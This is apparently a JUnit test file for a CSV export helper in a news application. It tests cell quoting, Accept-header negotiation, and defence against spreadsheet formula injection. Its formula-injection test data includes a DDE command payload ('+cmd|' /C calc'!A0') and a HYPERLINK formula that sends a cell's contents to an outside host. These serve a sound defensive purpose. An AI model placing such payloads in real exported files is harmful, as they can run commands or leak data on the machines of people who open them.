package news.dateline.http;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {

    @Test
    void aCellIsQuotedWhereItHasTo() {
        assertThat(Csv.cell("Taliban")).isEqualTo("Taliban");
        assertThat(Csv.cell("Doha, Qatar")).isEqualTo("\"Doha, Qatar\"");
        assertThat(Csv.cell("the \"deal\"")).isEqualTo("\"the \"\"deal\"\"\"");
        assertThat(Csv.cell("two\nlines")).isEqualTo("\"two\nlines\"");
        assertThat(Csv.cell(null)).isEmpty();
        assertThat(Csv.cell(true)).isEqualTo("true");
        assertThat(Csv.cell("")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "-",
                "\uFF1D1+1",
                "=HYPERLINK(\"https://wire.example?\"&A1)"
            })
    void noCellIsAFormula(String text) {
        assertThat(Csv.cell(text)).matches("(?s)\"?'.*").contains(text.replace("\"", "\"\""));
    }

    @Test
    void aNumberStaysOne() {
        assertThat(Csv.cell(-5L)).isEqualTo("-5");
        assertThat(Csv.cell(-0.25)).isEqualTo("-0.25");
        assertThat(Csv.cell("+49")).isEqualTo("+49");
        assertThat(Csv.cell("-5-3")).isEqualTo("'-5-3");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "text/csv | true",
                "Text/CSV; charset=utf-8 | true",
                "text/csv, */* | true",
                "text/csv, application/json;q=0.5 | true",
                "text/csv;q=0.5, application/json | false",
                "application/json, text/csv | false",
                "text/csv;q=0.1, */* | false",
                "text/csv;q=0 | false",
                "text/csv;q=lots | false",
                "text/html, */* | false",
                "text/* | false",
                "'' | false"
            })
    void itIsGivenToWhoeverPrefersIt(String accept, boolean wanted) {
        assertThat(Csv.isWanted(accept)).isEqualTo(wanted);
    }
}
